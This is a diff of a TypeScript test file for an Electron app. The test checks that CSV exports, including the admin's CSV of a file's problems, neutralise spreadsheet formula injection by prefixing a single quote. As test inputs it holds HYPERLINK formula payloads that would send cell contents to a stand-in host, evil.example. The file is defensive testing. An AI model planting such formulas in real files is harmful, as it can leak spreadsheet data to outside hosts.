@@ -3,21 +3,17 @@
  * values that came from a file or from the service and that a spreadsheet
  * would run (=, +, -, @, tab or carriage return first) are written with a
  * leading single quote, through `foyer outbox export` and through the admin's
- * export operation alike. No service is reached: the outbox row is written
+ * export operation alike; so are a file's name and headers in the admin's
+ * CSV of a file's problems. No service is reached: the outbox row is written
  * into the mirror directly, as a delivery would leave it.
  */
-import { mkdtempSync, rmSync } from 'node:fs';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createAppCore } from '../../../electron/core/app/core.ts';
 import { createSession } from '../../../electron/core/app/session.ts';
 import { main } from '../../../electron/core/cli/main.ts';
-import { createConfigStore } from '../../../electron/core/config/config.ts';
-import { createFileTokenStore } from '../../../electron/core/config/token-store.ts';
-import { openMirror } from '../../../electron/core/db/mirror.ts';
 import { openRuntime } from '../../../electron/core/runtime.ts';
+import { cleanup, configuredDataDir, tempDir, tempMirror } from '../../support/fixtures.ts';
 
 const HOSTILE = {
   sourceId: '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -32,12 +28,9 @@ let dir: string;
 let outboxId: number;
 
 beforeAll(() => {
-  dir = mkdtempSync(join(tmpdir(), 'foyer-export-'));
-  const config = createConfigStore(dir);
   // A service that is never reached: nothing here sends anything.
-  config.write({ ...config.read(), baseUrl: 'http://127.0.0.1:9/api/v2' });
-  createFileTokenStore(dir).set('export-test-token');
-  const mirror = openMirror(join(dir, 'mirror.db'));
+  dir = configuredDataDir('http://127.0.0.1:9/api/v2', { dir: tempDir('foyer-export-'), token: 'export-test-token' });
+  const mirror = tempMirror(dir);
   const now = '2026-01-01T00:00:00.000Z';
   outboxId = mirror.outbox.add({
     kind: 'identities',
@@ -71,7 +64,7 @@ beforeAll(() => {
   );
   mirror.close();
 });
-afterAll(() => rmSync(dir, { recursive: true, force: true }));
+afterAll(cleanup);
 
 /** The CSV's records, and that no cell a spreadsheet would evaluate remains. */
 function expectNeutral(csv: string) {
@@ -106,6 +99,29 @@ describe('exported results', () => {
       };
       expect(answer.fileName).toBe(`foyer-results-${outboxId}.csv`);
       expectNeutral(answer.csv);
+    } finally {
+      await runtime.close();
+    }
+  });
+
+  it("the admin's problems of a file neutralise the file's name and its headers", async () => {
+    const runtime = await openRuntime({ dataDir: dir });
+    try {
+      const core = createAppCore(runtime);
+      const fileName = '=HYPERLINK("http:evil.example","open").csv';
+      const header = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+      const answer = await core.call(createSession('admin-2', 'admin'), 'imports.issuesCsv', {
+        kind: 'identities',
+        fileName,
+        // The header as a spreadsheet writes it: quoted, its quotes doubled.
+        contentBase64: Buffer.from(
+          `sourceId,email,"${header.replaceAll('"', '""')}"\nid-1,a@example.test,x\n`,
+        ).toString('base64'),
+      });
+      const records = parse(answer.csv, { columns: true }) as Record<string, string>[];
+      expect(records).toEqual([
+        { file: `'${fileName}`, line: '1', column: `'${header}`, problem: expect.stringMatching(/^unknown column/) },
+      ]);
     } finally {
       await runtime.close();
     }
